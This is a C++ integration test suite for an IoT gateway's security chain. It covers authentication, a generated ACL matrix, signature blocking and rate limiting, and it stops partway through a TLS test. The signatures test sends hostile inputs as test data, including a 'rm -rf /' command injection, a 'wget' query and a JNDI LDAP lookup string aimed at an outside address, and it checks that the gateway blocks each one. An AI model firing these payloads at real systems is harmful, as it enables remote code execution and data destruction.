// The security chain end to end: the real kagamid with a real "security"
// section (argon2id hashes, API-key and token digests, an HS256 JWT key, ACL,
// signatures, expected use, TLS, audit) in front of kagami-devsim devices on
// 127.0.0.1. Clients are raw sockets (raw_http_client.hpp) and, for TLS,
// curl and openssl s_client children; the audit trail is read through the
// admin API, kagami-audit, or RocksDB directly after kagamid stopped.
//
// Expected outcomes come from the config the test writes (an independent
// ACL oracle, the rate-limit arithmetic, the signature rule ids), never from
// the components under test.

#include <algorithm>
#include <atomic>
#include <chrono>
#include <cmath>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <map>
#include <mutex>
#include <random>
#include <set>
#include <string>
#include <thread>
#include <vector>

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>
#include <openssl/evp.h>
#include <openssl/hmac.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/wait.h>

#include "actors/security/authn/password_hash.hpp"
#include "actors/security/authn/secret_digest.hpp"
#include "storage/rocksdb_store.hpp"
#include "tests/integration/child_process.hpp"
#include "tests/integration/gateway_fixture.hpp" // port_of, the binaries' paths
#include "tests/integration/raw_http_client.hpp"
#include "tests/integration/shell_command.hpp"

namespace kagami::test {
namespace {

namespace fs = std::filesystem;
using json = nlohmann::json;
using namespace std::chrono_literals;
using header_list = std::vector<std::pair<std::string, std::string>>;

const std::string audit_bin = KAGAMI_AUDIT_BIN;

// --- child commands --------------------------------------------------------

command_result run(const std::string& cmd) {
  return run_shell(cmd);
}

bool has(const std::string& text, const std::string& part) {
  return text.find(part) != std::string::npos;
}

// --- credentials -----------------------------------------------------------

std::string base64(std::string_view in, bool url) {
  std::string out(4 * ((in.size() + 2) / 3) + 1, '\0');
  auto n = EVP_EncodeBlock(reinterpret_cast<unsigned char*>(out.data()),
                           reinterpret_cast<const unsigned char*>(in.data()),
                           static_cast<int>(in.size()));
  out.resize(static_cast<size_t>(n));
  if (url) {
    while (!out.empty() && out.back() == '=')
      out.pop_back();
    for (auto& c : out)
      c = c == '+' ? '-' : c == '/' ? '_' : c;
  }
  return out;
}

std::string basic(const std::string& user, const std::string& password) {
  return "Basic " + base64(user + ":" + password, false);
}

/// An HS256 JWT made by hand (RFC 7515 compact form, OpenSSL HMAC).
std::string hs256_jwt(const json& claims, const std::string& key) {
  auto signing_input = base64(json{{"alg", "HS256"}, {"typ", "JWT"}}.dump(), true) + "."
                       + base64(claims.dump(), true);
  unsigned char mac[EVP_MAX_MD_SIZE];
  unsigned len = 0;
  HMAC(EVP_sha256(), key.data(), static_cast<int>(key.size()),
       reinterpret_cast<const unsigned char*>(signing_input.data()), signing_input.size(),
       mac, &len);
  return signing_input + "."
         + base64(std::string_view{reinterpret_cast<char*>(mac), len}, true);
}

int64_t unix_now() {
  return std::chrono::duration_cast<std::chrono::seconds>(
           std::chrono::system_clock::now().time_since_epoch())
    .count();
}

std::string key_hash(const std::string& secret) {
  return authn::to_hex(authn::digest_secret(secret));
}

/// An apiKeys entry for app `app` with `roles`, whose key is "key-" + app.
json api_key_entry(const std::string& app, std::vector<std::string> roles) {
  return {{"app", app}, {"keyHash", key_hash("key-" + app)}, {"roles", roles}};
}

header_list as_app(const std::string& app) {
  return {{"X-API-Key", "key-" + app}};
}

json plain_http() {
  return {{"enabled", false}, {"allowPlainHttp", true}};
}

/// Failures from one source (every test client is 127.0.0.1) would
/// otherwise be throttled after 5; the tests that send bad credentials on
/// purpose are not about brute force.
json lenient_brute_force() {
  return {{"sourceFreeFailures", 1000}, {"accountFreeFailures", 1000},
          {"lockoutFailures", 10000}};
}

json allow_rule(const std::string& subject, json op = "*", std::string thing = "*",
                std::string affordance = "*") {
  return {{"subject", subject}, {"thing", thing}, {"affordance", affordance}, {"op", op}};
}

// --- HTTP ------------------------------------------------------------------

struct reply {
  unsigned status = 0;
  std::string body;
  raw_response raw;
  /// The client's local port of the connection (the audit record's source).
  uint16_t local_port = 0;
  json doc() const { return json::parse(body, nullptr, false); }
};

/// One request over a fresh connection; status 0 when none came back.
reply call(uint16_t port, const std::string& method, const std::string& target,
           const header_list& headers = {}, const std::optional<std::string>& body = {},
           std::chrono::milliseconds timeout = 5s) {
  std::string req = method + " " + target + " HTTP/1.1\r\nHost: 127.0.0.1\r\n";
  for (auto& [k, v] : headers)
    req += k + ": " + v + "\r\n";
  if (body)
    req += "Content-Type: application/json\r\nContent-Length: "
           + std::to_string(body->size()) + "\r\n";
  req += "Connection: close\r\n\r\n" + body.value_or("");
  reply out;
  auto c = raw_connection::connect(port, timeout);
  if (!c.ok())
    return out;
  sockaddr_in local{};
  socklen_t len = sizeof local;
  if (::getsockname(c.fd(), reinterpret_cast<sockaddr*>(&local), &len) == 0)
    out.local_port = ntohs(local.sin_port);
  if (!c.send(req, timeout))
    return out;
  auto r = c.read_response(timeout);
  if (!r)
    return out;
  out.status = r->status;
  out.body = r->body;
  out.raw = std::move(*r);
  return out;
}

std::string detail_of(const reply& r) {
  auto d = r.doc();
  return d.is_object() && d.contains("detail") && d["detail"].is_string()
           ? d["detail"].get<std::string>()
           : std::string{};
}

// --- the site --------------------------------------------------------------

struct thing_spec {
  std::string id;
  std::string model;
  std::string tag;
};

/// Four things over the two simulators: two PLCs and two sensors, on two
/// lines.
const std::vector<thing_spec> things{{"plc-1", "line-plc", "line-1"},
                                     {"plc-2", "line-plc", "line-2"},
                                     {"sensor-1", "env-sensor", "line-1"},
                                     {"sensor-2", "env-sensor", "line-2"}};

class security_test : public ::testing::Test {
protected:
  void SetUp() override {
    dir = fs::temp_directory_path()
          / ("kagami-sec-" + std::to_string(getpid()) + "-"
             + ::testing::UnitTest::GetInstance()->current_test_info()->name());
    fs::remove_all(dir);
    fs::create_directories(dir);
    data_dir = (dir / "data").string();
    auto data = source_dir + "/tests/data/integration/";
    auto plc_addr = plc.start({devsim_bin, "modbus", "--config",
                               data + "devsim-plc-static.json", "--listen", "127.0.0.1:0"});
    ASSERT_TRUE(plc_addr) << "devsim modbus did not start";
    plc_port = port_of(*plc_addr);
    auto sensor_addr = sensor.start({devsim_bin, "http", "--config",
                                     data + "devsim-sensor-static.json", "--listen",
                                     "127.0.0.1:0"});
    ASSERT_TRUE(sensor_addr) << "devsim http did not start";
    sensor_port = port_of(*sensor_addr);
  }

  void TearDown() override {
    if (gateway.running()) {
      EXPECT_EQ(gateway.stop(), 0) << "kagamid did not stop cleanly on SIGTERM";
    }
    plc.stop();
    sensor.stop();
    std::error_code ignored;
    fs::remove_all(dir, ignored);
  }

  /// A site with the four things and `security`.
  json site(const json& security) const {
    json s = {
      {"site", "security-test"},
      {"listen", "127.0.0.1:0"},
      {"dataDir", data_dir},
      {"timeouts", {{"deviceMs", 1000}, {"requestMs", 3000}}},
      {"models", {source_dir + "/config/models/line-plc.json",
                  source_dir + "/config/models/env-sensor.json"}},
      {"devices", json::array()},
    };
    if (!security.is_null())
      s["security"] = security;
    for (auto& t : things) {
      bool is_plc = t.model == "line-plc";
      s["devices"].push_back(
        {{"id", t.id},
         {"model", t.model},
         {"tags", {t.tag}},
         {"address", is_plc ? "127.0.0.1:" + std::to_string(plc_port)
                            : "http://127.0.0.1:" + std::to_string(sensor_port)}});
    }
    return s;
  }

  std::string write_site(const json& s) {
    auto path = (dir / "site.json").string();
    std::ofstream{path} << s.dump(2);
    return path;
  }

  /// Starts kagamid on `s`; sets `port` and `url`.
  void start(const json& s) {
    auto path = write_site(s);
    auto started = gateway.start({kagamid_bin, "--config", path});
    ASSERT_TRUE(started) << "kagamid did not start";
    url = *started;
    port = port_of(url);
  }

  void stop() {
    ASSERT_EQ(gateway.stop(), 0) << "kagamid did not stop cleanly";
  }

  /// Runs kagamid on `s` to its exit (a config it must refuse).
  command_result run_refused(const json& s) {
    auto path = write_site(s);
    return run("timeout 30 " + kagamid_bin + " --config " + path);
  }

  reply get(const std::string& target, const header_list& h = {}) {
    return call(port, "GET", target, h);
  }

  /// Every record matching `query` through the admin API, as `admin`.
  json admin_audit(const std::string& admin, const std::string& query) {
    auto r = get("/admin/audit?" + query, as_app(admin));
    EXPECT_EQ(r.status, 200u) << r.body;
    auto d = r.doc();
    EXPECT_TRUE(d.is_array()) << r.body;
    return d.is_array() ? d : json::array();
  }

  /// Every record via kagami-audit query (kagamid stopped), paging.
  json audit_query_all() {
    json all = json::array();
    uint64_t after = 0;
    for (;;) {
      auto r = run(audit_bin + " query --data-dir " + data_dir + " --limit 10000 --after "
                   + std::to_string(after) + " 2>/dev/null");
      EXPECT_EQ(r.exit_code, 0) << r.output;
      auto page = json::parse(r.output, nullptr, false);
      if (!page.is_array() || page.empty())
        return all;
      for (auto& rec : page)
        all.push_back(rec);
      after = page.back().value("seq", uint64_t{0});
      if (page.size() < 10000)
        return all;
    }
  }

  fs::path dir;
  std::string data_dir;
  child_process plc;
  child_process sensor;
  child_process gateway;
  uint16_t plc_port = 0;
  uint16_t sensor_port = 0;
  uint16_t port = 0;
  std::string url;
};

/// The scheme of every definition but combos, and whether `security` names
/// them all: one name for one scheme, else one combo whose oneOf names each.
std::set<std::string> td_schemes(const json& td, std::string& problem) {
  std::set<std::string> schemes;
  if (!td.contains("securityDefinitions") || !td.contains("security")) {
    problem = "no securityDefinitions or security";
    return schemes;
  }
  auto& defs = td["securityDefinitions"];
  for (auto& [name, def] : defs.items())
    if (def.value("scheme", "") != "combo")
      schemes.insert(def.value("scheme", ""));
  auto sec = td["security"].is_string() ? json::array({td["security"]}) : td["security"];
  if (!sec.is_array() || sec.size() != 1) {
    problem = "security is not one name: " + td["security"].dump();
    return schemes;
  }
  auto name = sec[0].get<std::string>();
  if (!defs.contains(name)) {
    problem = "security names an undefined scheme " + name;
    return schemes;
  }
  auto& in_force = defs[name];
  std::set<std::string> named;
  if (in_force.value("scheme", "") == "combo") {
    for (auto& n : in_force.value("oneOf", json::array()))
      if (defs.contains(n.get<std::string>()))
        named.insert(defs[n.get<std::string>()].value("scheme", ""));
  } else {
    named.insert(in_force.value("scheme", ""));
  }
  if (named != schemes)
    problem = "security in force does not name every defined scheme: " + td.dump();
  if (schemes.size() > 1 && in_force.value("scheme", "") != "combo")
    problem = "several schemes without a combo: " + td.dump();
  return schemes;
}

// --- 1. authentication ------------------------------------------------------

TEST_F(security_test, every_scheme_authenticates_and_refusals_do_not_enumerate_users) {
  auto alice_hash = authn::hash_password("alice-correct-horse");
  ASSERT_TRUE(alice_hash);
  const std::string token = "opaque-token-of-scada-7f3a9c1e5b2d4f60";
  const std::string jwt_key = "jwt-shared-secret-for-security-test-0123456789";
  json sec = {
    {"authentication",
     {{"credentials",
       {{"users", {{{"name", "alice"}, {"passwordHash", *alice_hash}, {"roles", {"operator"}}}}},
        {"apiKeys", {api_key_entry("dashboard", {"viewer"})}},
        {"tokens", {{{"app", "scada"}, {"tokenHash", key_hash(token)}, {"roles", {"operator"}}}}}}},
      {"jwt", {{"algorithm", "HS256"}, {"key", jwt_key}, {"audience", "kagami-test"}}},
      {"bruteForce", lenient_brute_force()}}},
    // Only these four subjects may read: a 200 proves who was authenticated.
    {"checks", {{"acl", {{"type", "acl"},
                         {"rules", {allow_rule("user:alice"), allow_rule("app:dashboard"),
                                    allow_rule("app:scada"), allow_rule("user:erin")}}}}}},
    {"chains", {{"default", {"acl"}}}},
    {"tls", plain_http()},
  };
  start(site(sec));
  const std::string target = "/things/plc-1/properties/temperature";

  // No credentials: 401 with one challenge per enforced scheme.
  auto none = get(target);
  EXPECT_EQ(none.status, 401u) << none.body;
  std::vector<std::string> challenges;
  for (auto& [k, v] : none.raw.headers)
    if (k == "www-authenticate")
      challenges.push_back(v);
  EXPECT_EQ(challenges.size(), 3u);
  auto challenged = [&](const std::string& prefix) {
    return std::count_if(challenges.begin(), challenges.end(), [&](const std::string& c) {
      return c.size() >= prefix.size()
             && strncasecmp(c.c_str(), prefix.c_str(), prefix.size()) == 0;
    });
  };
  EXPECT_EQ(challenged("Basic "), 1) << none.raw.header("www-authenticate");
  EXPECT_EQ(challenged("Bearer "), 1);
  EXPECT_EQ(std::count_if(challenges.begin(), challenges.end(),
                          [](auto& c) { return has(c, "X-API-Key"); }),
            1);

  // Each scheme authenticates as its subject.
  auto now = unix_now();
  EXPECT_EQ(get(target, {{"Authorization", basic("alice", "alice-correct-horse")}}).status,
            200u);
  EXPECT_EQ(get(target, as_app("dashboard")).status, 200u);
  EXPECT_EQ(get(target, {{"Authorization", "Bearer " + token}}).status, 200u);
  auto good_jwt = hs256_jwt(
    {{"sub", "erin"}, {"aud", "kagami-test"}, {"exp", now + 300}, {"iat", now}}, jwt_key);
  EXPECT_EQ(get(target, {{"Authorization", "Bearer " + good_jwt}}).status, 200u);

  // Wrong password and unknown user: the same 401, byte for byte.
  auto wrong_pw = get(target, {{"Authorization", basic("alice", "alice-wrong-horse")}});
  auto unknown = get(target, {{"Authorization", basic("mallory", "alice-correct-horse")}});
  EXPECT_EQ(wrong_pw.status, 401u);
  EXPECT_EQ(unknown.status, 401u);
  EXPECT_EQ(wrong_pw.body, unknown.body);
  EXPECT_EQ(wrong_pw.raw.count_header("www-authenticate"),
            unknown.raw.count_header("www-authenticate"));

  // Bad keys, tokens and JWTs.
  EXPECT_EQ(get(target, {{"X-API-Key", "key-nobody"}}).status, 401u);
  EXPECT_EQ(get(target, {{"Authorization", "Bearer opaque-token-nobody-has"}}).status, 401u);
  auto expired = hs256_jwt(
    {{"sub", "erin"}, {"aud", "kagami-test"}, {"exp", now - 3600}, {"iat", now - 7200}},
    jwt_key);
  EXPECT_EQ(get(target, {{"Authorization", "Bearer " + expired}}).status, 401u);
  auto wrong_aud = hs256_jwt(
    {{"sub", "erin"}, {"aud", "another-gateway"}, {"exp", now + 300}}, jwt_key);
  EXPECT_EQ(get(target, {{"Authorization", "Bearer " + wrong_aud}}).status, 401u);
  auto wrong_key = hs256_jwt({{"sub", "erin"}, {"aud", "kagami-test"}, {"exp", now + 300}},
                             jwt_key + "-not");
  EXPECT_EQ(get(target, {{"Authorization", "Bearer " + wrong_key}}).status, 401u);

  // The TD names exactly the enforced schemes, and no nosec.
  auto td = get("/things/plc-1", as_app("dashboard"));
  ASSERT_EQ(td.status, 200u) << td.body;
  std::string problem;
  auto schemes = td_schemes(td.doc(), problem);
  EXPECT_TRUE(problem.empty()) << problem;
  EXPECT_EQ(schemes, (std::set<std::string>{"basic", "bearer", "apikey"})) << td.body;
  for (auto& [name, def] : td.doc()["securityDefinitions"].items())
    if (def.value("scheme", "") == "bearer") {
      EXPECT_EQ(def.value("format", ""), "jwt");
      EXPECT_EQ(def.value("alg", ""), "HS256");
    }
  stop();

  // Basic with an explicit anonymous subject: requests without credentials
  // run as app:guest, and the TD says nosec besides basic.
  json anon = sec;
  anon["authentication"] = {
    {"credentials",
     {{"users", {{{"name", "alice"}, {"passwordHash", *alice_hash}, {"roles", {"operator"}}}}}}},
    {"anonymous", {{"subject", "guest"}, {"roles", {"visitor"}}}}};
  anon["checks"]["acl"]["rules"] = {allow_rule("app:guest", "readproperty")};
  start(site(anon));
  auto as_guest = get(target);
  EXPECT_EQ(as_guest.status, 200u) << as_guest.body;
  auto write_as_guest = call(port, "PUT", "/things/plc-1/properties/setpoint", {}, "50");
  EXPECT_EQ(write_as_guest.status, 403u) << write_as_guest.body;
  auto anon_td = get("/things/plc-1");
  ASSERT_EQ(anon_td.status, 200u) << anon_td.body;
  problem.clear();
  EXPECT_EQ(td_schemes(anon_td.doc(), problem), (std::set<std::string>{"basic", "nosec"}))
    << anon_td.body;
  EXPECT_TRUE(problem.empty()) << problem;
  stop();

  // API keys alone: one scheme, named directly; no nosec.
  json keys_only = sec;
  keys_only["authentication"] = {
    {"credentials", {{"apiKeys", {api_key_entry("dashboard", {"viewer"})}}}}};
  start(site(keys_only));
  auto challenge_only = get(target);
  EXPECT_EQ(challenge_only.status, 401u);
  EXPECT_EQ(challenge_only.raw.count_header("www-authenticate"), 1u);
  EXPECT_TRUE(has(challenge_only.raw.header("www-authenticate"), "X-API-Key"));
  auto keys_td = get("/things/plc-1", as_app("dashboard"));
  ASSERT_EQ(keys_td.status, 200u) << keys_td.body;
  problem.clear();
  EXPECT_EQ(td_schemes(keys_td.doc(), problem), (std::set<std::string>{"apikey"}))
    << keys_td.body;
  EXPECT_TRUE(problem.empty()) << problem;
  EXPECT_FALSE(has(keys_td.body, "nosec")) << keys_td.body;
}

// --- 2. authorization matrix -------------------------------------------------

/// An ACL rule as the test generates it, and the oracle's view of it.
struct gen_rule {
  std::string role;
  std::string thing; // "*", "id:..", "model:..", "tag:.."
  std::string affordance;
  std::vector<std::string> ops; // empty = "*"
  bool deny = false;

  json to_json() const {
    json r = {{"subject", "role:" + role}, {"thing", thing}, {"affordance", affordance},
              {"op", ops.empty() ? json("*") : json(ops)}};
    if (deny)
      r["effect"] = "deny";
    return r;
  }
};

/// The ACL semantics of acl_policy.hpp, written again from its contract:
/// a matching deny wins, else a matching allow allows, else deny; "*" is
/// allowed only when every property of the model is.
class acl_oracle {
public:
  acl_oracle(std::vector<gen_rule> rules, std::map<std::string, std::vector<std::string>> props)
    : rules_(std::move(rules)), props_(std::move(props)) {
  }

  bool allows(const std::string& role, const thing_spec& t, const std::string& affordance,
              const std::string& op) const {
    if (affordance == "*") {
      for (auto& p : props_.at(t.model))
        if (!allows(role, t, p, op))
          return false;
      return true;
    }
    bool allowed = false;
    for (auto& r : rules_) {
      bool thing_ok = r.thing == "*" || r.thing == "id:" + t.id
                      || r.thing == "model:" + t.model || r.thing == "tag:" + t.tag;
      bool op_ok = r.ops.empty() || std::find(r.ops.begin(), r.ops.end(), op) != r.ops.end();
      bool aff_ok = r.affordance == "*" || r.affordance == affordance;
      if (r.role != role || !thing_ok || !op_ok || !aff_ok)
        continue;
      if (r.deny)
        return false;
      allowed = true;
    }
    return allowed;
  }

private:
  std::vector<gen_rule> rules_;
  std::map<std::string, std::vector<std::string>> props_;
};

std::vector<std::string> property_names(const std::string& model_file) {
  std::ifstream in{model_file};
  auto model = json::parse(in, nullptr, false);
  std::vector<std::string> names;
  for (auto& [name, value] : model["properties"].items())
    names.push_back(name);
  return names;
}

/// One kind of request on a thing.
struct request_kind {
  std::string op_name; // as the audit trail records it
  std::string acl_op;
  std::string affordance;
  std::string method;
  std::string target;
  std::optional<std::string> body;
};

std::vector<request_kind> requests_on(const thing_spec& t) {
  auto base = "/things/" + t.id;
  bool is_plc = t.model == "line-plc";
  std::string writable = is_plc ? "setpoint" : "reportIntervalS";
  std::string action = is_plc ? "resetCounter" : "calibrate";
  return {
    {"readproperty", "readproperty", "temperature", "GET", base + "/properties/temperature", {}},
    {"readallproperties", "readproperty", "*", "GET", base + "/properties", {}},
    {"writeproperty", "writeproperty", writable, "PUT", base + "/properties/" + writable,
     is_plc ? "50" : "30"},
    {"invokeaction", "invokeaction", action, "POST", base + "/actions/" + action,
     is_plc ? std::optional<std::string>{} : std::optional<std::string>{"45"}},
  };
}

TEST_F(security_test, generated_acl_matrix_matches_the_oracle_and_every_denial_is_audited) {
  const std::vector<std::string> roles{"operator", "viewer", "maintainer"};
  std::map<std::string, std::vector<std::string>> props{
    {"line-plc", property_names(source_dir + "/config/models/line-plc.json")},
    {"env-sensor", property_names(source_dir + "/config/models/env-sensor.json")}};
  ASSERT_FALSE(props["line-plc"].empty());
  ASSERT_FALSE(props["env-sensor"].empty());

  // A generated rule set over every selector kind; the seed is fixed so a
  // failure reproduces.
  const unsigned seed = 20261127;
  std::mt19937 rng{seed};
  auto pick = [&](const auto& v) { return v[rng() % v.size()]; };
  const std::vector<std::string> selectors{"*",          "id:plc-1",  "id:sensor-2",
                                           "model:line-plc", "model:env-sensor",
                                           "tag:line-1", "tag:line-2"};
  const std::vector<std::string> affordances{"*", "*", "temperature", "setpoint",
                                             "reportIntervalS", "calibrate", "humidity"};
  const std::vector<std::string> all_ops{"readproperty", "writeproperty", "invokeaction",
                                         "subscribeevent"};
  std::vector<gen_rule> rules;
  for (auto& role : roles)
    for (int i = 0; i < 6; ++i) {
      gen_rule r;
      r.role = role;
      r.thing = pick(selectors);
      r.affordance = pick(affordances);
      if (rng() % 3 != 0) {
        for (auto& op : all_ops)
          if (rng() % 2 == 0)
            r.ops.push_back(op);
        if (r.ops.empty())
          r.ops.push_back(pick(all_ops));
      }
      r.deny = rng() % 4 == 0;
      rules.push_back(r);
    }
  acl_oracle oracle{rules, props};
  json acl_rules = json::array();
  for (auto& r : rules)
    acl_rules.push_back(r.to_json());
  SCOPED_TRACE("seed " + std::to_string(seed) + ", rules " + acl_rules.dump());

  json api_keys = {api_key_entry("auditor", {"admin"})};
  for (auto& role : roles)
    api_keys.push_back(api_key_entry(role + "-app", {role}));
  json sec = {
    {"authentication", {{"credentials", {{"apiKeys", api_keys}}}}},
    {"checks", {{"acl", {{"type", "acl"}, {"rules", acl_rules}}}}},
    {"chains", {{"default", {"acl"}}}},
    {"tls", plain_http()},
  };
  start(site(sec));

  struct denial {
    std::string subject, thing, op, affordance, detail;
  };
  std::vector<denial> denials;
  size_t allowed = 0;
  for (auto& role : roles)
    for (auto& t : things)
      for (auto& k : requests_on(t)) {
        bool expect = oracle.allows(role, t, k.affordance, k.acl_op);
        auto r = call(port, k.method, k.target, as_app(role + "-app"), k.body);
        auto what = role + " " + k.op_name + " " + k.target;
        if (expect) {
          ++allowed;
          EXPECT_TRUE(r.status >= 200 && r.status < 300) << what << ": " << r.status << " "
                                                         << r.body;
        } else {
          EXPECT_EQ(r.status, 403u) << what << ": " << r.body;
          EXPECT_FALSE(detail_of(r).empty()) << what << ": no reason in " << r.body;
          denials.push_back({"app:" + role + "-app", t.id, k.op_name, k.affordance,
                             detail_of(r)});
        }
      }
  // The generated matrix exercises both outcomes.
  EXPECT_GT(allowed, 5u);
  EXPECT_GT(denials.size(), 5u);

  auto trail = admin_audit("auditor", "outcome=denied&limit=10000");
  size_t acl_denials = 0;
  for (auto& rec : trail)
    if (rec.value("check", "") == "acl")
      ++acl_denials;
  EXPECT_EQ(acl_denials, denials.size()) << trail.dump();
  for (auto& d : denials) {
    auto it = std::find_if(trail.begin(), trail.end(), [&](const json& rec) {
      return rec.value("subject", "") == d.subject && rec.value("thing", "") == d.thing
             && rec.value("op", "") == d.op && rec.value("affordance", "") == d.affordance;
    });
    ASSERT_NE(it, trail.end()) << "not audited: " << d.subject << " " << d.op << " "
                               << d.thing << "/" << d.affordance;
    EXPECT_EQ(it->value("check", ""), "acl");
    EXPECT_EQ(it->value("http_status", 0), 403);
    EXPECT_FALSE(it->value("reason", "").empty());
    EXPECT_EQ(it->value("reason", ""), d.detail);
    EXPECT_FALSE(it->value("request_id", "").empty());
    EXPECT_TRUE(has(it->value("source", ""), "127.0.0.1:"));
  }
}

// --- 3. signatures -----------------------------------------------------------

TEST_F(security_test, signatures_block_attacks_in_body_uri_and_headers_but_not_lookalikes) {
  json sec = {
    {"authentication", {{"credentials", {{"apiKeys", {api_key_entry("tester", {"tester"}),
                                                       api_key_entry("auditor", {"admin"})}}}}}},
    {"checks", {{"acl", {{"type", "acl"}, {"rules", {allow_rule("role:tester")}}}},
                {"sigs", {{"type", "signatures"},
                          {"rulesFile", source_dir + "/config/security/signatures.json"}}}}},
    {"chains", {{"default", {"acl", "sigs"}}}},
    {"tls", plain_http()},
  };
  start(site(sec));
  auto h = as_app("tester");
  const std::string interval = "/things/sensor-1/properties/reportIntervalS";
  const std::string temperature = "/things/plc-1/properties/temperature";

  auto expect_blocked = [&](const reply& r, const std::string& rule, const std::string& what) {
    EXPECT_EQ(r.status, 403u) << what << ": " << r.body;
    EXPECT_TRUE(has(detail_of(r), rule)) << what << ": " << r.body;
  };
  // Command injection in a written value, firmware in a body.
  expect_blocked(call(port, "PUT", interval, h, R"("30; rm -rf /")"), "KG-1001", "body");
  expect_blocked(call(port, "PUT", interval, h, std::string{"\x7f" "ELF\x02\x01\x01\0\0\0", 10}),
                 "KG-1021", "ELF body");
  // In the target and in a header.
  expect_blocked(get(temperature + "?cmd=x;wget", h), "KG-1001", "uri");
  auto jndi = h;
  jndi.emplace_back("X-Trace", "${jndi:ldap://198.51.100.1/a}");
  expect_blocked(get(temperature, jndi), "KG-1030", "header");

  // Look-alikes pass the signatures: a number, "rm" as a word, "jndi" in a
  // header, a query that names wget without a shell separator.
  auto number = call(port, "PUT", interval, h, "30");
  EXPECT_TRUE(number.status >= 200 && number.status < 300) << number.body;
  auto words = call(port, "PUT", interval, h, R"("please rm old logs at 5")");
  EXPECT_NE(words.status, 403u) << words.body; // the device's schema refuses a string
  EXPECT_FALSE(has(words.body, "KG-")) << words.body;
  auto benign_header = h;
  benign_header.emplace_back("X-Trace", "jndi lookups disabled; trace 42");
  EXPECT_EQ(get(temperature, benign_header).status, 200u);
  EXPECT_EQ(get(temperature + "?note=wget-is-not-run", h).status, 200u);

  // The denials are audited under the signature check, naming the rule.
  auto trail = admin_audit("auditor", "outcome=denied&limit=1000");
  std::set<std::string> rules_hit;
  for (auto& rec : trail)
    if (rec.value("check", "") == "sigs")
      for (std::string id : {"KG-1001", "KG-1021", "KG-1030"})
        if (has(rec.value("reason", ""), id))
          rules_hit.insert(id);
  EXPECT_EQ(rules_hit, (std::set<std::string>{"KG-1001", "KG-1021", "KG-1030"}))
    << trail.dump();
  EXPECT_EQ(trail.size(), 4u) << trail.dump();
}

// --- 4. rate limiting -----------------------------------------------------------

TEST_F(security_test, rate_limit_refuses_one_subject_with_retry_after_and_spares_another) {
  const double rate = 5;
  const double burst = 5;
  json sec = {
    {"authentication", {{"credentials", {{"apiKeys", {api_key_entry("app-a", {"reader"}),
                                                       api_key_entry("app-b", {"reader"})}}}}}},
    {"checks",
     {{"acl", {{"type", "acl"}, {"rules", {allow_rule("role:reader", "readproperty")}}}},
      {"use", {{"type", "expected_use"},
               {"rate_limit", {{"requests_per_second", rate}, {"burst", burst}}}}}}},
    {"chains", {{"default", {"acl", "use"}}}},
    {"tls", plain_http()},
  };
  start(site(sec));
  const std::string target = "/things/plc-1/properties/temperature";
  using clock = std::chrono::steady_clock;

  size_t a_ok = 0, a_limited = 0, a_other = 0, b_ok = 0, b_other = 0;
  std::string a_other_body, retry_after_problem;
  clock::time_point first_send, first_reply, last_send, last_reply;
  double stalled = 0;
  auto b_next = clock::now();
  // B sends every 400 ms (2.5/s, below its own rate); A as fast as it can.
  for (auto start = clock::now(); clock::now() - start < 2s;) {
    auto sent = clock::now();
    auto r = get(target, as_app("app-a"));
    auto got = clock::now();
    if (a_ok + a_limited + a_other == 0) {
      first_send = sent;
      first_reply = got;
    } else {
      // A full bucket stops filling: a pause longer than burst / rate (a
      // stalled test thread) loses what it would have refilled.
      stalled += std::max(0.0, std::chrono::duration<double>(sent - last_send).count()
                                 - burst / rate);
    }
    last_send = sent;
    last_reply = got;
    if (r.status == 200) {
      ++a_ok;
    } else if (r.status == 429) {
      ++a_limited;
      auto ra = r.raw.header("retry-after");
      if (ra.empty() || ra.find_first_not_of("0123456789") != std::string::npos
          || std::stoul(ra) > 60)
        retry_after_problem = "Retry-After '" + ra + "'";
    } else {
      ++a_other;
      a_other_body = r.body;
    }
    if (clock::now() >= b_next) {
      auto rb = get(target, as_app("app-b"));
      (rb.status == 200 ? b_ok : b_other) += 1;
      b_next += 400ms;
    }
  }
  EXPECT_EQ(a_other, 0u) << a_other_body;
  EXPECT_EQ(b_other, 0u);
  EXPECT_GE(b_ok, 4u);
  EXPECT_GT(a_limited, 0u);
  EXPECT_TRUE(retry_after_problem.empty()) << retry_after_problem;
  // Token bucket: the burst, plus what refilled while A kept asking. The
  // server's window lies between [first reply, last send] (less any stall)
  // and [first send, last reply].
  auto secs = [](clock::duration d) { return std::chrono::duration<double>(d).count(); };
  auto inner = std::max(0.0, secs(last_send - first_reply) - stalled);
  auto outer = secs(last_reply - first_send);
  auto lower = static_cast<size_t>(burst + std::floor(rate * inner) - 1);
  auto upper = static_cast<size_t>(burst + std::ceil(rate * outer) + 1);
  EXPECT_GE(a_ok, lower) << "inner " << inner << " s";
  EXPECT_LE(a_ok, upper) << "outer " << outer << " s";
}

// --- 5. TLS ------------------------------------------------------------------

class pki {
public:
  explicit pki(const fs::path& dir) : dir_(dir) {
    fs::create_directories(dir_);
    make_ca("ca");
    make_ca("other-ca");
    make_client("ca", "client", "line-3-hmi");
    make_client("other-ca", "intruder", "line-3-hmi");
  }
  std::string path(const std::string& name) const { return (dir_ / name).string(); }
  std::string error;

private:
  void must(const std::string& cmd) {
    auto r = run(cmd);
    if (r.exit_code != 0 && error.empty())
      error = cmd + ": " + r.output;
  }
  void make_ca(const std::string& name) {
    must("openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 "
         "-subj /CN=test-" + name + " -keyout " + path(name) + ".key -out " + path(name)
         + ".pem");
  }
  void make_client(const std::string& ca, const std::string& name, const std::string& cn) {
    must("openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj /CN=" + cn
         + " -keyout " + path(name) + ".key -out " + path(name) + ".csr");
    must("openssl x509 -req -days 2 -in " + path(name) + ".csr -CA " + path(ca) + ".pem -CAkey "
         + path(ca) + ".key -CAcreateserial -out " + path(name) + ".pem");
  }
  fs::path dir_;
};

std::string fingerprint_line(const std::string& openssl_output) {
  auto at = openssl_output.find("Fingerprint=");
  if (at == std::string::npos)
    return {};
  auto end = openssl_output.find('\n', at);
  return openssl_output.substr(at, end - at);
}

TEST_F(security_test, https_by_default_with_a_kept_certificate_tls12_minimum_and_mtls_apps) {
  json sec = {
    {"authentication", {{"credentials", {{"apiKeys", {api_key_entry("dashboard", {"viewer"})}}}}}},
    {"checks", {{"acl", {{"type", "acl"},
                         {"rules", {allow_rule("app:dashboard", "readproperty"),
                                    allow_rule("app:hmi", "readproperty")}}}}}},
